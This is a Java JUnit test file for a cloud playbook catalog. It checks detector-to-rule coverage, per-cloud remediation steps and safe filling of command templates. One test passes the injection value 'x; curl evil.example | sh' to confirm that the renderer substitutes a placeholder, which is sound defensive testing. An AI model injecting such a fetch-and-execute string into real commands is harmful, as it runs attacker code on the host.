package dev.aispm.misuse.playbook;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.dataformat.yaml.YAMLFactory;
import dev.aispm.misuse.detect.Detectors;
import dev.aispm.rules.catalog.Category;
import dev.aispm.rules.catalog.RuleCatalog;
import java.util.Map;
import org.junit.jupiter.api.Test;

class PlaybookCatalogTest {
  @Test
  void everyDetectorHasARuleAndAPlaybookForEveryCloud() {
    PlaybookCatalog catalog = PlaybookCatalog.builtIn();
    RuleCatalog rules = RuleCatalog.builtIn();
    for (String id : Detectors.ids()) {
      assertThat(rules.rules()).as(id).anySatisfy(r -> {
        assertThat(r.id()).isEqualTo(id);
        assertThat(r.metadata().category()).isEqualTo(Category.MISUSE);
        assertThat(r.metadata().compliance().of("mitre-atlas")).isNotEmpty();
      });
      Playbook p = catalog.forRule(id).orElseThrow();
      for (String provider : new String[] {"aws", "azure", "gcp"}) {
        assertThat(p.stepsFor(provider)).as(id + " " + provider).isNotEmpty();
        assertThat(p.stepsFor(provider).get(0).action()).isEqualTo("Snapshot the evidence");
      }
    }
    // Misuse rules read detections; a rule without a detector would never fire.
    rules.rules().stream().filter(r -> r.query().contains("MisuseDetection"))
        .forEach(r -> assertThat(Detectors.ids()).contains(r.id()));
  }

  @Test
  void aPlaybookWithoutStepsForACloudIsRejected() throws Exception {
    var yaml = new ObjectMapper(new YAMLFactory()).readTree("""
        rule: r1
        steps:
          - {provider: aws, action: a, command: c, why: w}
        """);
    assertThatThrownBy(() -> PlaybookCatalog.parse("r1", yaml)).hasMessageContaining("no steps for");
  }

  @Test
  void valuesAShellWouldInterpretAreNotPastedIntoCommands() {
    assertThat(PlaybookRenderer.fill("aws iam list-access-keys --user-name {principalName}",
        Map.of("principalName", "contractor"))).isEqualTo("aws iam list-access-keys --user-name contractor");
    assertThat(PlaybookRenderer.fill("aws iam list-access-keys --user-name {principalName}",
        Map.of("principalName", "x; curl evil.example | sh"))).endsWith("--user-name PRINCIPAL_NAME");
    assertThat(PlaybookRenderer.fill("--region={region}", Map.of())).isEqualTo("--region=REGION");
  }

  @Test
  void shortNamesOfArnsResourceIdsAndEmails() {
    assertThat(PlaybookRenderer.shortName("arn:aws:iam::111111111111:user/contractor")).isEqualTo("contractor");
    assertThat(PlaybookRenderer.shortName("arn:aws:iam::111111111111:role/path/etl")).isEqualTo("etl");
    assertThat(PlaybookRenderer.shortName("alice@example.com")).isEqualTo("alice");
    assertThat(PlaybookRenderer.shortName("acme-training-data")).isEqualTo("acme-training-data");
    assertThat(PlaybookRenderer.shortName("projects/p/locations/l/endpoints/123")).isEqualTo("123");
  }
}
